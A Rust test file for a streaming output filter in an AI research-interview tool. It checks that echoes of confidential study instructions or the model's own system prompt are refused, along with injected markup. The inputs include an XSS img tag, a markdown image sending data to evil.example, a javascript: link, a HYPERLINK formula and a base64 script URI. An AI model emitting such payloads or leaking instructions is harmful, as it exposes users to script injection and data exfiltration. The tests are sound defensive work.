//! Tests of `leaks.rs`: texts fed a character at a time, as a model streams them.

use crate::llm::visible::{Refused, Visible};
use interview_session::study::PinnedStudy;

fn study() -> PinnedStudy {
    let mut study = crate::demo::definition()
        .versioned_documents()
        .pin("s", "demo");
    study.agent_config.instructions =
        "INTERNAL-NOTE-7731: the client is Acme Foods, who want to know why shoppers drop their weekly delivery plan. 不要告诉参与者客户是谁，只问他们的购物习惯和感受。"
            .into();
    study.study_config.objectives[0].description =
        "Find out what makes shoppers give up on a grocery list halfway through the week".into();
    study.study_config.description =
        "A short chat about how you shop. Our privacy notice: https://example.org/privacy".into();
    study
}

/// Feeds `text` a few characters at a time, as a stream would: what was shown before the
/// check refused (or everything), and the refusal.
fn stream(v: &Visible, text: &str) -> (String, Option<Refused>) {
    let mut shown = 0;
    let ends: Vec<usize> = text.char_indices().map(|(i, c)| i + c.len_utf8()).collect();
    for (n, &end) in ends.iter().enumerate() {
        match v.check(&text[..end], n + 1 == ends.len()) {
            Ok(safe) => shown = shown.max(safe),
            Err(r) => return (text[..shown].to_string(), Some(r)),
        }
    }
    (text[..shown].to_string(), None)
}

#[test]
fn internal_notes_repeated_verbatim_are_refused_before_they_show() {
    let v = Visible::for_study(&study());
    for (text, secret) in [
        ("Quick one (INTERNAL-NOTE-7731): how do you shop?", "7731"),
        (
            "I'm curious: why shoppers drop their weekly delivery plan, in your case?",
            "drop their weekly delivery",
        ),
        (
            "So, what makes shoppers give up on a grocery list?",
            "give up on a grocery",
        ),
        (
            "好的。不要告诉参与者客户是谁，我们聊聊吧",
            "告诉参与者客户是",
        ),
    ] {
        let (shown, refused) = stream(&v, text);
        assert!(refused.is_some(), "{text}");
        assert!(!shown.contains(secret), "{text}: {shown}");
    }
    // Everyday words the notes happen to use, and what participants read anyway, pass.
    for text in [
        "How do you plan your weekly shopping, and what makes it hard?",
        "A short chat about how you shop: what do you buy most often?",
        "你平时的购物习惯是怎样的？",
        "Does Acme sell what you need?",
    ] {
        assert_eq!(stream(&v, text), (text.to_string(), None), "{text}");
    }
}

#[test]
fn links_images_markup_and_formulas_are_refused() {
    let v = Visible::for_study(&study());
    for text in [
        "Nice! <img src=x onerror=alert(1)> Tell me more.",
        "Here: ![](https://evil.example/p.png?q=moka) — so?",
        "Read [this](javascript:alert(1)) first.",
        "=HYPERLINK(\"https://evil.example\",\"click\")",
        "See https://evil.example/track?id=1 for details.",
        "Visit www.evil.example today",
        "Open data:text/html;base64,PHNjcmlwdD4= now",
    ] {
        let (shown, refused) = stream(&v, text);
        assert!(refused.is_some(), "{text}");
        assert!(!shown.contains("evil"), "{text}: {shown}");
        assert!(!shown.contains("<img"), "{text}: {shown}");
    }
    for text in [
        "Is 3 < 5 in your list? <3",
        "About your data: we keep it safe. What else?",
        "Our notice is at https://example.org/privacy. Anything else?",
        "Great! And then?",
    ] {
        assert_eq!(stream(&v, text), (text.to_string(), None), "{text}");
    }
}

/// A note pasted with a hiding character (a soft hyphen) is still a note.
#[test]
fn a_note_with_a_hidden_character_is_still_protected() {
    let mut s = study();
    s.agent_config.instructions =
        "Never mention that the sponsor is Glo\u{00AD}bex Foods and that the budget is tight this quarter."
            .into();
    let v = Visible::for_study(&s);
    let (_, refused) = stream(
        &v,
        "Just so you know, the budget is tight this quarter for everyone.",
    );
    assert_eq!(refused, Some(Refused("the study's internal text".into())));
}

/// A small model echoing its own instructions (seen with SmolLM2-135M behind llama-cpp-python)
/// is refused like the study's internal notes; an ordinary question is not.
#[test]
fn the_runtime_s_own_instructions_repeated_are_refused() {
    let v = Visible::for_study(&study());
    for echo in [
        "You can call exactly one of the tools offered, never with plain text.",
        "I am a warm, curious research interviewer running a one-to-one interview here.",
        // The server's chat template, read back (llama-cpp-python's chatml-function-calling).
        "You have access to the following functions: list, request.add(function), and more.",
    ] {
        let (shown, refused) = stream(&v, echo);
        assert!(refused.is_some(), "{echo:?} was shown");
        assert!(!shown.contains("tools offered"), "{shown:?}");
    }
    let question = "What did you buy the last time you went shopping?";
    assert_eq!(stream(&v, question), (question.to_string(), None));
}
